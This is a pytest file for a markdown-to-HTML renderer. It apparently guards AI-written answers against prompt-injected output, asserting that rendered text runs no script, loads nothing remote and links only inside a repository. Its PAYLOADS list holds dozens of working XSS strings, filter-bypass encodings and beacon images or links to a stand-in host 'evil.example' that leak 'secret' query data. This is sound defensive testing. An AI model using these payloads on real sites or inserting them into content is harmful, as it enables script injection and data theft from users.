"""What a model that was talked into something may write: none of it may run, and none may load anything unclicked."""

import re
from html.parser import HTMLParser

import pytest

from portfolio import markdown

EVIL = "https://evil.example"
LOADING = {"src", "srcset", "background", "poster", "data", "style", "action", "formaction", "ping", "http-equiv"}
ALLOWED = {"href", "title", "class", "rel", "data-source", "start", "tabindex"}

PAYLOADS = [
    "<script>alert(1)</script>",
    f"<script src={EVIL}/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT\n>alert(1)</SCRIPT\n>",
    f"<img src={EVIL}/beacon.png>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)//",
    f'<img srcset="{EVIL}/a.png 1x">',
    f"![pixel]({EVIL}/p.png?q=secret)",
    f"![pixel][p]\n\n[p]: {EVIL}/p.png",
    f"[![badge]({EVIL}/b.svg)]({EVIL})",
    f"![a]({EVIL}/a.png 'x\" onerror=\"alert(1)')",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#115;cript:alert(1))",
    "[a](&#x6A;avascript:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](data:image/svg+xml;base64,PHN2Zz4=)",
    "<javascript:alert(1)>",
    f"[a]({EVIL}/?q=secret)",
    f"[a][r]\n\n[r]: {EVIL}",
    f"<{EVIL}>",
    f"[a]({EVIL} 'title\" onmouseover=\"alert(1)')",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    f'<svg><use href="{EVIL}/x.svg#a"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    f"<style>@import '{EVIL}/x.css'</style>",
    f'<div style="background:url({EVIL}/x.png)">a</div>',
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    f"<base href={EVIL}>",
    f"<iframe src={EVIL}></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f"<object data={EVIL}></object><embed src={EVIL}>",
    f"<video poster={EVIL}/p.png><audio src={EVIL}/a.mp3 autoplay>",
    f"<form action={EVIL}><button formaction={EVIL}>Log in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<!-- --><img src=x onerror=alert(1)><!-- -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\ncode\n```',
    "```html\n<img src=x onerror=alert(1)>\n```",
    "`<img src=x onerror=alert(1)>`",
    "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
    "{{ 7 * 7 }} {% include 'secret' %} ${7*7}",
    '<a href="#" hx-get="/admin/" hx-trigger="load" sse-connect="/x">a</a>',
    '<p class="notice" id="announcer" data-copy="x">a</p>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "\u202e<img src=x onerror=alert(1)>\u202c",
    "<img/src='x'/onerror=alert`1`>",
    "[1](javascript:alert(1))",
    "[1]: javascript:alert(1)",
    f"[1]({EVIL})",
]


class Reader(HTMLParser):
    """What a browser would see."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value or "" for name, value in attrs if name == "href"]


def read(html: str) -> Reader:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader


def as_answer(text: str) -> Reader:
    lines = markdown.Citation(href="https://github.com/owner/name/blob/c/a.py#L1", source="s-1", title="a.py")
    return read(markdown.render(text, links=["https://github.com/owner/name"], citations={1: lines}))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_in_an_answer_nothing_runs_or_loads_and_links_stay_in_the_repository(payload: str) -> None:
    seen = as_answer(payload)

    assert seen.tags <= markdown.TAGS
    assert seen.attributes <= ALLOWED and not seen.attributes & LOADING
    assert all(link.startswith("https://github.com/owner/name") for link in seen.links)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_in_a_description_nothing_runs_or_loads(payload: str) -> None:
    seen = read(markdown.render(payload))

    assert seen.tags <= markdown.TAGS
    assert seen.attributes <= ALLOWED and not seen.attributes & LOADING
    assert all(link.split(":")[0] in ("http", "https", "mailto") for link in seen.links)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_beginning_of_an_attack_is_harmless_too(payload: str) -> None:
    for end in range(1, len(payload)):
        seen = as_answer(payload[:end])
        assert seen.tags <= markdown.TAGS and seen.attributes <= ALLOWED


@pytest.mark.parametrize("payload", PAYLOADS)
def test_as_a_passage_it_is_text(payload: str) -> None:
    for language in ("html", "markdown", "a.js", ""):
        seen = read(markdown.highlight(payload, language))
        assert seen.tags <= {"pre", "code", "span"} and seen.attributes <= {"class", "data-line", "tabindex"}


def test_markup_cannot_take_the_looks_of_the_page() -> None:
    html = markdown.render('```html\n<p class="notice">\n```\n\n[a](https://a.org "b")')

    assert 'class="notice"' not in html


def test_the_answer_cannot_forge_a_citation() -> None:
    seen = as_answer("[9] [1][evil] [evil][1]\n\n[evil]: https://evil.example\n[9]: https://evil.example")

    assert set(seen.links) == {"https://github.com/owner/name/blob/c/a.py#L1"}


@pytest.mark.parametrize(
    "address",
    ["///evil.example/x", "//evil.example", "/admin/logout/", "?next=x", "#", "chat", "\\\\evil.example", "/"],
)
def test_in_an_answer_about_a_local_repository_only_its_citations_are_links(address: str) -> None:
    known = {1: markdown.Citation(href="#source-1", source="source-1", title="queue.py, lines 1–2")}

    html = markdown.render(f"[a]({address}) <{address}> [1]\n\n[b]: {address}\n\n[b]", links=[], citations=known)

    assert re.findall(r'href="([^"]*)"', html) == ["#source-1"]
